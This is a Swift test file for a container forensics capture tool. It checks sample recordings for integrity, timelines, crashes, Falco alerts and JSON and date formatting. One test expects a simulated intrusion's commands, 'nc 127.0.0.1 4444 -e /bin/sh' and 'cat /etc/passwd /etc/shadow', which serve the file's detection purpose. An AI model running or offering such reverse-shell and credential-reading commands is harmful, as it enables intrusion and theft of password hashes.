import CaptureFormat
import Digests
import Events
import Interchange
import JSON
import Posix
import Reconstruction
import Testing

/// The samples of captures/v1: what happened is written in captures/README.md, and must be read out of them for ever.
@Suite struct SampleTests {
  static let directory: String = {
    let parts = #filePath.split(separator: "/").dropLast(3)
    return "/" + parts.joined(separator: "/") + "/captures/v1"
  }()

  func open(_ name: String) throws -> CaptureFile { try CaptureFile(path: Self.directory + "/" + name) }

  func timeline(_ capture: Capture) throws -> [JSONValue] {
    let boot = capture.boots[0]
    var merge = capture.events(in: boot.directory)
    let exporter = try TimelineExporter(boot)
    var objects: [JSONValue] = []
    while let event = try merge.next() {
      var json = JSONText()
      exporter.write(event, to: &json)
      objects.append(try JSONValue(parsing: json.bytes))
    }
    return objects
  }

  @Test(arguments: [
    "web-shell.pcapng", "crash.pcapng", "falco-alert.pcapng", "death.pcapng", "acts.pcapng", "meaning.pcapng",
    "rings.pcapng", "deaths.pcapng", "traffic.pcapng", "losses.pcapng",
  ])
  func `a sample is what it was when it was made`(name: String) throws {
    let sums = String(decoding: try FileDescriptor.contents(of: Self.directory + "/SHA256SUMS"), as: UTF8.self)
    let bytes = try FileDescriptor.contents(of: Self.directory + "/" + name, limit: 1 << 24)
    let digest = SHA256.digest(bytes).map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
    #expect(sums.split(separator: "\n").contains("\(digest)  \(name)"))
  }

  @Test(arguments: [
    ("web-shell.pcapng", "shop-web", "shop/web:1.4"), ("crash.pcapng", "billing", "shop/billing:2.0"),
    ("falco-alert.pcapng", "shop-web", "shop/web:1.4"), ("death.pcapng", "billing", "shop/billing:2.0"),
    ("acts.pcapng", "acts", "lab/acts:1.0"), ("meaning.pcapng", "tools", "shop/tools:3.1"),
    ("rings.pcapng", "rings", "lab/rings:1.0"), ("deaths.pcapng", "mortal", "lab/mortal:1.0"),
    ("traffic.pcapng", "traffic", "shop/web:1.4"),
  ])
  func `a sample is complete and names its container`(name: String, container: String, image: String) throws {
    let file = try open(name)
    #expect(file.completeness?.isComplete == true)
    #expect(try file.losses().isEmpty)
    #expect(file.problems.isEmpty)
    let rows = try file.containers()
    #expect(rows.map(\.name) == [container])
    #expect(rows.map(\.image) == [image])
    #expect(rows.first?.runtime == "docker")
    for entry in file.directory { #expect(try file.verify(entry)) }
  }

  @Test
  func `what things mean is in the sample: names, NAT, who came in, what was written since, and the container's lives`()
    throws
  {
    let capture = try Capture(path: Self.directory + "/meaning.pcapng")
    let events = try timeline(capture)
    func kind(_ kind: String) -> [JSONValue] { events.filter { $0["aftertrace.kind"]?.string == kind } }
    let named = kind("net.connect").filter { $0["destination.port"]?.integer == 8080 }
      .map { "\($0["destination.ip"]?.string ?? "") \($0["destination.domain"]?.string ?? "-")" }
    #expect(
      named == [
        "127.0.0.67 connected.example.test", "127.0.0.109 musl.example.test", "::1 tcp.example.test", "127.0.0.9 -",
      ])
    let out = try #require(kind("net.connect").first { $0["destination.port"]?.integer == 7000 })
    #expect(out["source.ip"]?.string == "10.77.0.2" && out["source.nat.ip"]?.string == "10.78.0.1")
    #expect(
      events.contains { $0["dns.question.name"]?.string == "gone.example.test" && $0["dns.type"]?.string == "query" })
    let lives = events.filter { $0["aftertrace.kind"]?.string?.hasPrefix("container.") == true }
      .filter { $0["aftertrace.kind"]?.string != "container.resources" }
    #expect(
      lives.compactMap { $0["aftertrace.kind"]?.string } == [
        "container.exit", "container.remove", "container.create", "container.start", "container.exit",
        "container.remove",
      ])
    #expect(lives.compactMap { $0["aftertrace.incarnation"]?.integer } == [1, 2, 2])
    #expect(lives.compactMap { $0["aftertrace.ended_by"]?.string } == ["outside", "outside"])
    let marks = Set(kind("process.exec").flatMap { $0["aftertrace.marks"]?.elements.compactMap(\.string) ?? [] })
    #expect(
      marks == ["entered_from_outside", "interactive_shell", "upper_layer", "deleted_image", "first_process"])
    #expect(Set(kind("net.connect").compactMap { $0["user.name"]?.string }) == ["www-data"])
    #expect(events.contains { $0["aftertrace.runtime_setup"]?.bool == true })
    let container = try #require(try open("meaning.pcapng").containers().first)
    #expect(
      container.users.map { "\($0.id) \(String(decoding: $0.name, as: UTF8.self))" } == ["0 root", "33 www-data"])
  }

  @Test func `the intruder's shell, what it read and where it called are in the sample`() throws {
    let events = try timeline(Capture(path: Self.directory + "/web-shell.pcapng"))
    let lines = events.compactMap { $0["process.command_line"]?.string }
    #expect(lines.contains { $0.contains("cat /etc/passwd /etc/shadow") && $0.hasPrefix("sh -c") })
    #expect(lines.contains("nc 127.0.0.1 4444 -e /bin/sh"))
    #expect(
      events.contains { $0["file.path"]?.string == "/etc/shadow" && $0["aftertrace.kind"]?.string == "file.open" })
    let call = try #require(events.first { $0["destination.port"]?.integer == 4444 })
    #expect(call["destination.ip"]?.string == "127.0.0.1")
    #expect(call["event.outcome"]?.string == "failure")
    #expect(call["error.code"]?.string == "-ECONNREFUSED")
    #expect(events.allSatisfy { $0["container.name"]?.string == "shop-web" })
  }

  @Test func `each act is in the sample, by its kind and with the names of its numbers`() throws {
    let events = try timeline(Capture(path: Self.directory + "/acts.pcapng"))
    var acts: [String: [JSONValue]] = [:]
    var current = ""
    for event in events {
      if let path = event["file.path"]?.string, path.hasPrefix("/act/") { current = String(path.dropFirst(5)) }
      acts[current, default: []].append(event)
    }
    func told(_ act: String, _ kind: String, _ member: String) -> [String?] {
      (acts[act] ?? []).filter { $0["aftertrace.kind"]?.string == kind }.map { event in
        event["aftertrace." + member].map { $0.string ?? $0.integer.map(String.init) ?? "\($0.elements.map(\.string))" }
      }
    }
    let kinds = Set(events.compactMap { $0["aftertrace.kind"]?.string })
    let missing = EventKind.catalogue.filter { (112...191).contains($0.kind.rawValue) && !kinds.contains($0.name) }
    #expect(missing.map(\.name) == [])
    #expect(told("setuid", "credentials.user", "old_user_id") == ["0"])
    #expect(told("setuid", "credentials.user", "effective_user_id") == ["1000"])
    #expect(told("mount", "mount.attach", "call_flags") == ["MS_NOSUID|MS_NODEV"])
    #expect(told("kill", "process.signal", "signal") == ["SIGKILL"])
    #expect(told("rights", "net.recv", "passed_files") == ["\(["/data/two", "/data/three"].map(Optional.some))"])
    #expect(told("outcome-connected", "net.outcome", "result") == ["0"])
    #expect(told("outcome-refused", "net.outcome", "result") == ["-111"])
    #expect(told("mmap", "memory.map", "protection") == ["PROT_READ|PROT_WRITE|PROT_EXEC"])
    #expect(told("ptrace-attach", "process.trace", "operation") == ["PTRACE_ATTACH"])
    #expect(told("renameat2", "file.rename", "call_flags_number") == ["1"])
  }

  @Test func `the crash is in the sample: who died, of what, and what its shell said`() throws {
    let file = try open("crash.pcapng")
    let history = try ProcessHistory(of: file)
    let billing = try #require(history.processes.first { $0.comm == Array("billing".utf8) })
    #expect(billing.exitCode.map { ExitStatus(waitStatus: $0) } == .killed(signal: 11, dumpedCore: false))
    let shell = try #require(billing.parent.flatMap { history[$0] })
    #expect(shell.exitCode.map { ExitStatus(waitStatus: $0) } == .exited(code: 139))
    let events = try timeline(Capture(path: Self.directory + "/crash.pcapng"))
    let end = try #require(events.last { $0["process.pid"]?.integer == Int64(billing.key.pid) })
    #expect(end["process.exit_code"]?.integer == 139)
    #expect(end["aftertrace.signal"]?.string == "SIGSEGV")
    #expect(
      events.contains { $0["file.path"]?.string == "/data/ledger.txt" && $0["aftertrace.kind"]?.string == "file.write" }
    )
  }

  @Test func `the alert, what was there before it and how things stood are in the sample`() throws {
    let file = try open("falco-alert.pcapng")
    let triggers = try file.triggers()
    let trigger = try #require(triggers.first)
    #expect(triggers.count == 1)
    #expect(trigger.source == "falco" && trigger.rule == "Read sensitive file untrusted")
    #expect(trigger.priority == "Warning" && trigger.body?.starts(with: Array("{".utf8)) == true)
    // Late, and anchored on its own time all the same.
    #expect(trigger.accepted.nanoseconds > trigger.time.nanoseconds + 1_500_000_000)
    let state = try WindowState(of: file)
    let server = try #require(state.processes.first { $0.namespacePID == 1 })
    #expect(server.comm == Array("httpd".utf8))
    let open = state.descriptors[server.key] ?? []
    #expect(open.contains { $0.flags.contains(.listening) })
    // Docker's pipes: not what its daemon had under these numbers.
    for number in 1...2 as ClosedRange<Int32> {
      #expect(open.first { $0.descriptor == number }?.file.path?.starts(with: Array("pipe:".utf8)) == true)
    }
    #expect(!state.processes.contains { $0.comm == Array("cat".utf8) })
    let events = try timeline(Capture(path: Self.directory + "/falco-alert.pcapng"))
    #expect(
      events.contains { $0["file.path"]?.string == "/etc/shadow" && $0["aftertrace.kind"]?.string == "file.open" })
    #expect(events.contains { $0["process.command_line"]?.string?.contains("uname -a") == true })
    let alert = try #require(events.isEmpty ? nil : events.first { $0["file.path"]?.string == "/etc/shadow" })
    #expect(alert["container.name"]?.string == "shop-web")
    #expect(file.directory.contains { $0.firstTime < trigger.time && $0.lane == .lifecycle })
  }

  @Test func `a death is its own trigger, in the sample`() throws {
    let file = try open("death.pcapng")
    let trigger = try #require(try file.triggers().first)
    #expect(trigger.source == "death")
    #expect(trigger.reason?.hasSuffix("ended: killed by SIGSEGV") == true)
    let history = try ProcessHistory(of: file)
    let billing = try #require(history.processes.first { $0.namespacePID == 1 && $0.exitCode ?? 0 != 0 })
    #expect(billing.comm == Array("billing".utf8))
    // The trigger's time went over the wall clock.
    let end = try #require(billing.end)
    #expect(max(end, trigger.time).nanoseconds - min(end, trigger.time).nanoseconds < 1_000_000)
    #expect(billing.exitCode.map { ExitStatus(waitStatus: $0) } == .killed(signal: 11, dumpedCore: false))
    // Its window begins before the container did.
    #expect(try WindowState(of: file).processes.isEmpty)
    let events = try timeline(Capture(path: Self.directory + "/death.pcapng"))
    #expect(
      events.contains { $0["file.path"]?.string == "/data/ledger.txt" && $0["aftertrace.kind"]?.string == "file.write" }
    )
  }

  @Test(arguments: ["web-shell.pcapng", "crash.pcapng", "falco-alert.pcapng", "death.pcapng"])
  func `without its footer a sample tells the same processes`(name: String) throws {
    let whole = try open(name)
    let bytes = try FileDescriptor.contents(of: Self.directory + "/" + name, limit: 1 << 24)
    let end = try #require(whole.directory.map { $0.offset + UInt64($0.length) }.max())
    let cut = try CaptureFile(bytes: Array(bytes.prefix(Int(end))), path: name)
    #expect(!cut.hasFooter)
    #expect(cut.directory.count == whole.directory.count)
    let known = try ProcessHistory(of: whole)
    for process in try ProcessHistory(of: cut).processes where process.eventCount == nil && process.end != nil {
      #expect(known[process.key]?.exitCode == process.exitCode)
      #expect(known[process.key]?.arguments == process.arguments)
    }
  }
}

@Suite struct JSONTextTests {
  @Test func `strings are escaped so that any reader takes them`() throws {
    var json = JSONText()
    json.beginObject()
    json.set("text", "a\"b\\c\n\u{1b}\u{7f}ü")
    json.set("bytes", [0xff, 0x41] as [UInt8])
    json.set("list", strings: ["x", "y"])
    json.endObject()
    let value = try JSONValue(parsing: json.bytes)
    #expect(value["text"]?.string == "a\"b\\c\n\u{1b}\u{7f}ü")
    #expect(value["bytes"]?.string == "\u{fffd}A")
    #expect(value["list"]?.elements.map(\.string) == ["x", "y"])
  }

  @Test func `every character comes back, and none that a terminal obeys is there raw`() throws {
    for number: UInt32 in Array(1..<0x300) + [0x2028, 0xfffd, 0x1f600] {
      guard let scalar = Unicode.Scalar(number) else { continue }
      for string in ["\(scalar)", "a\(scalar)", "\(scalar)b\(scalar)\(scalar)"] {
        var json = JSONText()
        json.beginObject()
        json.set("text", string)
        json.set("bytes", Array(string.utf8))
        json.endObject()
        let value = try JSONValue(parsing: json.bytes)
        #expect(value["text"]?.string?.unicodeScalars.elementsEqual(string.unicodeScalars) == true)
        #expect(value["bytes"]?.string?.unicodeScalars.elementsEqual(string.unicodeScalars) == true)
        let text = String(decoding: json.bytes, as: UTF8.self)
        #expect(!text.unicodeScalars.contains { $0.value < 0x20 || 0x7f..<0xa0 ~= $0.value })
      }
    }
  }

  @Test func `members that were written apart stand among the others`() throws {
    var part = JSONText()
    part.set("b", 2)
    part.set("c", -3)
    var json = JSONText()
    json.beginObject()
    json.append(members: part.bytes)
    json.append(members: [])
    json.set("d", Int64.min)
    json.set("e", UInt64.max)
    json.append(members: part.bytes)
    json.endObject()
    #expect(
      String(decoding: json.bytes, as: UTF8.self)
        == #"{"b":2,"c":-3,"d":-9223372036854775808,"e":18446744073709551615,"b":2,"c":-3}"#)
  }
}

@Suite struct CalendarTimeTests {
  @Test(
    arguments: [
      (0, "1970-01-01T00:00:00.000000+00:00"), (1_795_466_467_123_456_789, "2026-11-23T20:41:07.123456+00:00"),
      (951_782_400_000_000_000, "2000-02-29T00:00:00.000000+00:00"), (-1, "1969-12-31T23:59:59.999999+00:00"),
    ] as [(Int64, String)]) func `wall times are dates of the calendar`(nanoseconds: Int64, text: String)
  {
    #expect(CalendarTime(WallTime(nanoseconds: nanoseconds)).iso8601() == text)
  }

  @Test func `an offset shifts the hour and is said`() {
    #expect(CalendarTime(WallTime(nanoseconds: 0), offset: 5400).iso8601(digits: 0) == "1970-01-01T01:30:00+01:30")
  }

  @Test func `times written one after another are what each is alone`() {
    var text = CalendarText.iso8601()
    var local = CalendarText.timeOfDay { _ in 3600 }
    for nanoseconds: Int64 in [
      0, 1, 999_999_999, 1_000_000_000, -1, -1_000_000_000, -1_000_000_001, 1_795_466_467_123_456_789,
      1_795_466_467_999_999_999, 1_795_466_468_000_000_000, 1_795_466_467_000_001_000,
    ] {
      let time = WallTime(nanoseconds: nanoseconds)
      var bytes: [UInt8] = []
      text.append(time, to: &bytes)
      #expect(String(decoding: bytes, as: UTF8.self) == CalendarTime(time).iso8601())
      bytes = []
      local.append(time, to: &bytes)
      #expect(String(decoding: bytes, as: UTF8.self) == CalendarTime(time, offset: 3600).timeOfDay(digits: 6))
    }
  }
}
